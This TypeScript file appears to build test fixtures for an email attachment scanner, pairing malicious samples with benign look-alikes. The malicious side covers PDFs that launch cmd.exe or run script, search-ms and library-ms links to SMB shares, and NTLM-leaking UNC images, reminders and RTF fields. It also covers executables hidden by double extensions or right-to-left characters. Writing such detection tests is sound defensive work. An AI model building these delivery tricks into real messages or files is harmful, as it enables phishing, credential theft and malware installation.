import {
  calculatingForm,
  chm,
  elf,
  exe,
  htmlFile,
  jpeg,
  lnk,
  msi,
  pdf,
  pdfOfObjects,
  pdfWithAttachment,
  pdfWithLaunch,
  pdfWithPageLink,
  pdfWithScript,
  qrCode,
  scannedPdf,
  script,
  textFile,
} from '../files/index.ts'
import { aMail } from '../mail/index.ts'
import { calendar, outlookItem, tnef } from '../messages/index.ts'
import { docm, docx } from '../office/index.ts'
import { zip } from '../zip/index.ts'
import type { CatalogueEntry } from './entry.ts'
import { attached, behindPassword, carrying, forwarded, latin1File, nested, one, renamed } from './mails.ts'
import { richText } from './rich-text.ts'

const submits = () =>
  pdfOfObjects({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/inert) >> >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ],
  })

export const carrierEntries: readonly CatalogueEntry[] = [
  {
    id: 'A30',
    title: { ja: 'PDF', en: 'PDF carriers' },
    bad: [
      attached('link to a zip', () =>
        pdf({ name: 'BSN-0123456789.pdf', text: 'Open', links: ['https://files.example.net/a/Document.zip'] }),
      ),
      attached('page that is one link', () => pdfWithPageLink('https://files.example.net/d?id=7')),
      attached('starts a program', () => pdfWithLaunch('cmd.exe')),
      attached('script', () => pdfWithScript('var a = "inert"; app.launchURL("https://login.example.net/x", true);')),
      attached('document with macros inside', () => pdfWithAttachment(docm({ name: 'a.docm' }))),
      attached('script file inside', () => pdfWithAttachment(script('js'))),
      attached('script of Windows behind a link', () => pdf({ links: ['https://files.example.net/Payment-325993874.js'] })),
      attached('search in a share', () => pdf({ links: ['search-ms:query=a&crumb=location:\\\\\\\\192.0.2.4\\\\share'] })),
      attached('QR code instead of a link', () => pdfWithQr()),
      attached('form sent when it is opened', submits),
    ],
    lookAlike: [
      attached('scan', () => scannedPdf(jpeg({ bytes: 20_000 }))),
      attached('form that adds up', () => calculatingForm()),
      attached('leaflet with links', () =>
        pdf({ text: '健診のご案内\n詳しくはこちら', links: ['https://www.example.org/kenshin'] }),
      ),
      attached('invoice with its data', () => pdfWithAttachment(textFile('invoice.xml', '<invoice/>'))),
    ],
  },
  {
    id: 'A31',
    title: { ja: 'CHM・MSI・MSIX・URL・search-ms', en: 'CHM, MSI, MSIX, URL, search-ms' },
    bad: [
      attached('help file', () =>
        chm([
          htmlFile(
            'index.html',
            '<html><body><object classid="clsid:52a2aaae-085d-4187-97ea-8c30db990436"></object></body></html>',
          ),
        ]),
      ),
      attached('installer', () => msi({ name: 'PDF_3028225.msi' })),
      attached('shortcut to a share', () =>
        latin1File('Normativa.url', '[InternetShortcut]\r\nURL=file://192.0.2.80@80/inert/a.js\r\n'),
      ),
      attached('library', () =>
        latin1File(
          '資料.library-ms',
          '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
        ),
      ),
      attached('search', () =>
        latin1File(
          'a.search-ms',
          '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\\\192.0.2.7\\DavWWWRoot"/></scope></query></persistedQuery>',
        ),
      ),
      attached('package of an application', () =>
        latin1File(
          'a.appinstaller',
          '<?xml version="1.0"?><AppInstaller Uri="https://apps.example.net/a.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/appinstaller/2018"><MainPackage Name="a" Uri="https://apps.example.net/a.msix"/></AppInstaller>',
        ),
      ),
      attached('msix', () => zip('更新.msix').with({ name: 'AppxManifest.xml', bytes: Buffer.from('<Package/>') })),
      one('link that installs', () =>
        aMail().html('<p>資料は<a href="ms-appinstaller:?source=https://apps.example.net/a.appinstaller">こちら</a></p>'),
      ),
      one('link that searches a share', () =>
        aMail().html('<a href="search-ms:query=a&amp;crumb=location:\\\\192.0.2.7\\share">請求書</a>'),
      ),
      nested('installer two zips deep', () => msi({ name: 'a.msi' })),
    ],
    lookAlike: [one('ordinary link', () => aMail().html('<p>資料は<a href="https://www.example.org/shiryo">こちら</a></p>'))],
  },
  {
    id: 'A32',
    title: { ja: 'NTLM ハッシュを漏らすファイル・リンク', en: 'Files and links that leak NTLM hashes' },
    bad: [
      nested('page that leads to a share', () => redirectOnShare()),
      attached('page with a picture on a share', () =>
        htmlFile(
          'a.html',
          '<html><body><p>読み込み中です。お待ちください。</p><img src="\\\\192.0.2.9\\a\\b.png"></body></html>',
        ),
      ),
      one('picture on a share in the mail', () => aMail().html('<p>ご案内</p><img src="file://192.0.2.9/a.png">')),
      one('sound of a reminder', () => carrying(outlookItem({ reminderFile: '\\\\192.0.2.9\\a.wav' }))),
      one('sound of a reminder, Exchange', () => carrying(tnef({ reminderFile: '\\\\203.0.113.9@80\\a\\b.wav' }))),
      attached('rich text with a picture on a share', () =>
        richText('{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\192.0.2.9\\\\\\\\a.png" \\\\\\\\d}{\\fldrslt x}}'),
      ),
      one('meeting with a sound on a share', () =>
        carrying(
          calendar({
            lines: [
              'BEGIN:VALARM',
              'ACTION:AUDIO',
              'TRIGGER:-PT15M',
              'ATTACH;FMTTYPE=audio/basic:file://192.0.2.9/a.wav',
              'END:VALARM',
            ],
          }),
        ),
      ),
    ],
    lookAlike: [
      one('share of the house in words', () => aMail().text('資料は \\\\fileserver\\共有\\2026 に置きました。')),
      one('meeting with an alarm', () =>
        carrying(calendar({ lines: ['BEGIN:VALARM', 'ACTION:DISPLAY', 'DESCRIPTION:会議', 'TRIGGER:-PT15M', 'END:VALARM'] })),
      ),
    ],
  },
  {
    id: 'A33',
    title: { ja: '実行ファイル・二重拡張子', en: 'Programs and double extensions' },
    bad: [
      attached('exe', () => exe('setup.exe')),
      attached('two endings', () => exe('請求書.pdf.exe')),
      attached('blanks before the ending', () => exe(`報告書.pdf${' '.repeat(80)}.scr`)),
      attached('written backwards', () => exe('報告書\u202efdp.exe')),
      attached('full-width ending', () => renamed(textFile(), '報告書．ｅｘｅ')),
      attached('blank of Braille', () => script('js', 'report.pdf\u2800\u2800\u2800\u2800\u2800.js')),
      attached('dots and blanks at the end', () => script('bat', 'report.bat . .')),
      attached('program called a picture', () => exe('写真.jpg')),
      attached('program of Linux', () => elf()),
      attached('cpl', () => exe('設定.cpl', { dll: true })),
      behindPassword('behind a password', () => exe('明細.com')),
      forwarded('forwarded', () => exe('a.pif')),
      attached('shortcut with two endings', () => lnk({ name: 'a.pdf .lnk' })),
    ],
    lookAlike: [
      attached('date in the name', () => docx({ name: '議事録 v1.2_2026.03.07.docx' })),
      attached('two harmless endings', () => textFile('backup.2026.csv.txt', 'a,b\r\n')),
    ],
  },
]

function redirectOnShare() {
  return htmlFile(
    '通知.html',
    '<html><head><meta http-equiv="refresh" content="0; url=file://192.0.2.44/share/a.txt"></head></html>',
  )
}

/** A page that shows a QR code: the data of a PNG as it stands, its rows with their filter bytes. */
function pdfWithQr() {
  const png = Buffer.from(qrCode({ scale: 8 }).bytes)
  const at = png.indexOf('IDAT')
  const [width, height] = [png.readUInt32BE(16), png.readUInt32BE(20)]
  const picture = `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 1 /Columns ${width} >> >>`
  return pdfOfObjects({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
      { value: picture, data: png.subarray(at + 4, at + 4 + png.readUInt32BE(at - 4)), plain: true },
      { value: '<< >>', data: 'q 300 0 0 300 140 300 cm /Im1 Do Q' },
    ],
  })
}
